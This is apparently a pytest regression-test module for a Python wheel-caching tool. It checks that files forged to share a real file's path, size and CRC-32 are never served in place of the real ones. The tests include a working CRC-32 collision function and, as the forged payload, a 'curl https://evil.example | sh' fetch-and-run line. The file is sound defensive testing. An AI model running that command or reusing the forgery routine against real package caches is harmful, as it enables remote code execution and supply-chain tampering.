"""A forged member must never answer for a real one (issue 30, item 2).

The member store used to key files by path, size and CRC-32. A CRC-32 is linear: four chosen
bytes give any value, so an index can serve a `logits_processor.py` of the real file's path,
size and CRC-32 holding other code, and every later check against the real index (online and
--offline) read the forged bytes from the store. Here real CRC collisions are built
(`forge`) and served by a second loopback index beside the real one.
"""

from __future__ import annotations

import zlib
from pathlib import Path
from typing import Dict, Optional

import pytest

from clirun import sparkmods
from modfactory import ORIGINAL, TARGET, make_mod
from sparkmods.errors import SparkmodsError
from sparkmods.sources import memberstore, open_targets
from test_sources_kit import A, LoopbackIndex, fresh_cache, loopback_index, make_wheel, serving, wheel_files  # noqa: F401

NAME = "vllm-0.19.1-cp38-abi3-manylinux_2_28_x86_64.whl"
REAL_A = wheel_files("0.19.1")[A]


def forge(real: bytes, payload: bytes) -> bytes:
    """payload padded to real's size, with 4 bytes before its last byte chosen so that its
    CRC-32 is real's (CRC-32 is affine over GF(2): solve 32 equations for 32 bits)."""
    at = len(real) - 5
    base = bytearray(payload + b"#" * (at - len(payload)) + b"\0\0\0\0\n")
    assert len(base) == len(real)
    start = zlib.crc32(base)
    basis: Dict[int, "tuple[int, int]"] = {}  # pivot bit -> (CRC change, which of the 32 bits flip)
    for bit in range(32):
        flipped = bytearray(base)
        flipped[at + bit // 8] ^= 1 << (bit % 8)
        change, combo = zlib.crc32(flipped) ^ start, 1 << bit
        for pivot in sorted(basis, reverse=True):
            if change >> pivot & 1:
                change, combo = change ^ basis[pivot][0], combo ^ basis[pivot][1]
        if change:
            basis[change.bit_length() - 1] = (change, combo)
    want, combo = zlib.crc32(real) ^ start, 0
    for pivot in sorted(basis, reverse=True):
        if want >> pivot & 1:
            want, combo = want ^ basis[pivot][0], combo ^ basis[pivot][1]
    assert want == 0, "the 32 bits span every CRC-32 change"
    for bit in range(32):
        if combo >> bit & 1:
            base[at + bit // 8] ^= 1 << (bit % 8)
    forged = bytes(base)
    assert forged != real and len(forged) == len(real) and zlib.crc32(forged) == zlib.crc32(real)
    return forged


FORGED_A = forge(REAL_A, b'import os\nos.system("curl https://evil.example | sh")\n')

# What the forged wheel's RECORD says of A: the forged bytes' hash (an honest RECORD), nothing,
# or the real file's hash (a RECORD that lies, to plant its bytes under the real hash).
RECORDS: Dict[str, Optional[Dict[str, Optional[bytes]]]] = {
    "honest record": {A: FORGED_A}, "A not in record": {A: None}, "record lies": None}


def publish(index: LoopbackIndex, folder: Path, *, forged: bool, record=None, extra=None) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    wheel = make_wheel(folder / NAME, "0.19.1", stored=True, extra=extra, record=record)
    if forged:  # the same wheel with A's bytes swapped in place: same offsets, size and CRC-32
        raw = wheel.read_bytes()
        assert raw.count(REAL_A) == 1
        wheel.write_bytes(raw.replace(REAL_A, FORGED_A))
    index.add(wheel)


def one(index: LoopbackIndex, offline: bool = False):
    [source] = open_targets("0.19.1", index_url=f"{index.url}/simple", offline=offline)
    return source


@pytest.fixture
def evil(tmp_path, request):
    """A second index on loopback serving the forged wheel (its RECORD as the param says)."""
    with serving(LoopbackIndex()) as index:
        publish(index, tmp_path / "evil", forged=True, record=RECORDS[getattr(request, "param", "honest record")])
        yield index


@pytest.fixture
def real(loopback_index, tmp_path):
    publish(loopback_index, tmp_path / "real", forged=False)
    return loopback_index


@pytest.mark.parametrize("evil", list(RECORDS), indirect=True)
def test_a_forged_member_read_first_never_answers_for_the_real_wheel(evil, real):
    assert one(evil).read(A) == FORGED_A  # the forged index's own file: its own bytes
    assert one(real).read(A) == REAL_A
    assert one(real, offline=True).read(A) == REAL_A


@pytest.mark.parametrize("evil", list(RECORDS), indirect=True)
def test_offline_after_a_forged_read_says_the_file_is_not_cached(evil, real):
    """The real index seen only for its central directory: offline, the real file was never
    fetched, and the forged one stored under the same path, size and CRC-32 is not it."""
    assert one(evil).read(A) == FORGED_A
    one(real).warm()
    with pytest.raises(SparkmodsError, match=rf"offline and 1 file\(s\) such as {A} are not in the cache"):
        one(real, offline=True).read(A)


@pytest.mark.parametrize("evil", ["honest record", "A not in record"], indirect=True)
def test_each_index_gets_its_own_bytes_whichever_came_first(evil, real):
    assert one(real).read(A) == REAL_A
    assert one(evil).read(A) == FORGED_A  # not the real bytes the store holds


@pytest.mark.parametrize("evil", ["record lies"], indirect=True)
def test_a_lying_record_plants_nothing_under_the_real_hash(evil, real, fresh_cache):
    one(evil).read(A)
    stored = [p.read_bytes() for p in (fresh_cache / "members-v2").iterdir()]
    assert FORGED_A not in stored


def test_a_tampered_store_entry_is_fetched_again(real, fresh_cache):
    first = one(real)
    assert first.read(A) == REAL_A
    key = first._key(A)
    assert key.sha256 is not None  # shared by the hash the wheel's RECORD gives
    memberstore._path(key).write_bytes(FORGED_A)  # same size, same CRC-32
    hits = len(real.file_hits())
    assert one(real).read(A) == REAL_A and len(real.file_hits()) > hits  # fetched again
    assert memberstore._path(key).read_bytes() == REAL_A


def test_honest_wheels_still_share_a_file_they_hold_byte_for_byte(real, tmp_path):
    """Another release whose RECORD lists the same sha256 for a file reads it from the store."""
    with serving(LoopbackIndex()) as other:
        folder = tmp_path / "other"
        folder.mkdir()
        other.add(make_wheel(folder / NAME.replace("0.19.1", "0.19.2"), "0.19.2", stored=True,
                             extra={"vllm/same.py": b"SAME = 1\n" * 40}))
        publish(real, tmp_path / "again", forged=False, extra={"vllm/same.py": b"SAME = 1\n" * 40})
        [mine] = open_targets("0.19.2", index_url=f"{other.url}/simple")
        assert mine.read("vllm/same.py") == b"SAME = 1\n" * 40
        before = [h for h in real.file_hits() if "=-" not in h.range]
        assert one(real).read("vllm/same.py") == b"SAME = 1\n" * 40
        assert [h for h in real.file_hits() if "=-" not in h.range] == before  # from the store


def test_check_against_the_real_index_after_a_forged_one(tmp_path, real, fresh_cache):
    """Through the CLI: the forged index makes the mod's file conflict; the real index must
    still say the mod applies (it used to repeat the forged answer)."""
    mods = tmp_path / "mods"
    make_mod(mods)
    forged_target = forge(ORIGINAL.encode(), b"def forward(x):\n    return x.evil()\n")
    with serving(LoopbackIndex()) as evil_index:
        for index, folder, body in ((evil_index, "e", forged_target), (real, "r", ORIGINAL.encode())):
            (tmp_path / folder).mkdir()
            index.wheels.clear()
            index.add(make_wheel(tmp_path / folder / NAME, "0.19.1", stored=True, extra={TARGET: body}))
        env = {"SPARKMODS_CACHE_DIR": str(fresh_cache)}
        base = ["check", "demo", "--mods-dir", str(mods), "--vllm", "0.19.1", "--no-cache"]
        done, _ = sparkmods(*base, "--index-url", f"{evil_index.url}/simple", env=env)
        assert done.returncode == 1 and "conflict" in done.stdout
        for extra in ([], ["--offline"]):
            done, _ = sparkmods(*base, "--index-url", f"{real.url}/simple", *extra, env=env)
            assert done.returncode == 0 and " ok" in done.stdout, done.stdout + done.stderr


def test_record_rows_that_vouch_for_nothing_share_nothing():
    """Only a well-formed sha256 of 32 bytes makes a shared key; a quoted path (a comma in it)
    is read as csv reads it."""
    good = "sha256=" + "A" * 43
    rows = (f'"vllm/a,b.py",{good},5\nvllm/c.py,sha384={"B" * 64},3\nvllm/d.py,sha256=###,1\n'
            f"vllm/e.py,sha256={'C' * 40},1\nvllm/f.py,{good},7\nvllm-x.dist-info/RECORD,,\n")
    fields = memberstore.record_hashes(rows.encode())
    assert fields == {"vllm/a,b.py": good, "vllm/f.py": good, "vllm/e.py": "sha256=" + "C" * 40}
    assert memberstore.sha256_hex(good) == "00" * 32  # 43 base64 'A's: 32 zero bytes
    assert memberstore.sha256_hex("sha256=" + "C" * 40) is None  # 30 bytes: not a sha256
    assert memberstore.record_name(["vllm/x.py", "vllm-1.dist-info/RECORD"]) == "vllm-1.dist-info/RECORD"
    assert memberstore.record_name(["a-1.dist-info/RECORD", "b-1.dist-info/RECORD"]) is None


@pytest.fixture
def impostor(tmp_path):
    """A second index serving the forged wheel under the real wheel's sha256 and size (the
    forged bytes are swapped in place, so the size is the real one)."""
    with serving(LoopbackIndex()) as index:
        publish(index, tmp_path / "impostor", forged=True, record={A: FORGED_A})
        yield index


def test_a_wheel_cached_from_another_server_under_the_real_hash_is_checked_first(impostor, real):
    impostor.sha_override[NAME] = real.sha256(NAME)
    assert len(impostor.wheels[NAME]) == len(real.wheels[NAME])
    assert one(impostor).read(A) == FORGED_A  # range reads cannot see the lie
    with pytest.raises(SparkmodsError, match="refusing the cache entry"):
        one(real).read(A)  # the real server's central directory is not the one recorded
    with pytest.raises(SparkmodsError, match="refusing the cache entry"):
        one(real, offline=True).read(A)  # marked: refused offline too


def test_offline_a_wheel_cached_from_another_server_is_not_taken_on_trust(impostor, real, tmp_path):
    impostor.sha_override[NAME] = real.sha256(NAME)
    one(impostor).read(A)
    one(real)  # the real index page cached, nothing of the wheel read yet
    [source] = open_targets("0.19.1", index_url=f"{real.url}/simple", offline=True)
    with pytest.raises(SparkmodsError, match=r"recorded from .*/files/.*; run once online"):
        source.read(A)


def test_check_rows_cached_from_another_server_are_not_reused(impostor, real, tmp_path, fresh_cache):
    """The result cache keys rows by the entry's recorded central directory: a row computed on
    the impostor's bytes must not answer for the real index."""
    mods = tmp_path / "mods"
    make_mod(mods)
    impostor.sha_override[NAME] = real.sha256(NAME)
    env = {"SPARKMODS_CACHE_DIR": str(fresh_cache)}
    base = ["check", "demo", "--mods-dir", str(mods), "--vllm", "0.19.1", "--json"]
    sparkmods(*base, "--index-url", f"{impostor.url}/simple", env=env)
    done, _ = sparkmods(*base, "--index-url", f"{real.url}/simple", env=env)
    assert done.returncode == 2 and "refusing the cache entry" in done.stderr, done.stdout + done.stderr


def test_a_mirror_serving_the_same_wheel_is_checked_once_then_trusted_offline(real, tmp_path):
    """The honest case: the same wheel from a second index costs one check, then works offline."""
    with serving(LoopbackIndex()) as mirror:
        mirror.wheels[NAME] = real.wheels[NAME]
        first = one(real)
        assert first.read(A) == REAL_A
        assert one(mirror).read(A) == REAL_A
        assert [h.range for h in mirror.file_hits()] == [f"bytes={first._entry.identity.central_offset}-"
                                                         f"{len(real.wheels[NAME]) - 1}"]
        assert one(mirror, offline=True).read(A) == REAL_A
